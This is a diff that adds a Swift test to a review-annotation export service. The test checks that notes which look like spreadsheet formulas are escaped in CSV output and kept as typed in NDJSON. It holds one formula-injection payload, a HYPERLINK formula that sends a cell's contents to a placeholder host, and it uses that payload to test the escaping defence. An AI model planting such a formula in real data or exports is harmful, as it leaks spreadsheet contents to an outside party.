@@ -68,6 +68,23 @@ struct ReviewExportTests {
         #expect(try export(server, "/exports/annotations?granularity=episode").status == 400)
     }
 
+    /// A note a spreadsheet would run as a formula gets a leading ' in CSV
+    /// (until 2026-12-07 it went as typed: an outside security audit);
+    /// NDJSON keeps it as typed, and a note that only contains = is untouched.
+    @Test func aNoteThatLooksLikeAFormulaIsQuotedInCSV() throws {
+        let server = try TestServer()
+        let model = try TestModels.register(on: server.database)
+        let episode = try server.episode("exp-f", start: Self.start, end: Self.start + 30, modelID: model)
+        let formula = #"=HYPERLINK(\"http://example.invalid/?d=\"&A2,\"see protocol\")"#
+        #expect(try server.review("exp-f", episode, "annotate", #"{"verdict":"true_alarm","note":"\#(formula)"}"#).status == 201)
+        #expect(try server.review("exp-f", episode, "annotate", #"{"verdict":"artefact","note":"MAP 60 = flush"}"#).status == 201)
+        let csv = try export(server, "/exports/annotations?case=exp-f").text
+        #expect(csv.contains(#","'=HYPERLINK(""http://example.invalid/?d=""&A2,""see protocol"")","#), "\(csv)")
+        #expect(csv.contains(",MAP 60 = flush,"), "\(csv)")
+        let ndjson = try export(server, "/exports/annotations?case=exp-f&format=ndjson").text
+        #expect(ndjson.contains(#""note":"=HYPERLINK(\"http"#), "\(ndjson)")
+    }
+
     @Test func ndjsonHasOneObjectPerAction() throws {
         let server = try TestServer()
         let (_, first, merged) = try reviewed(server)
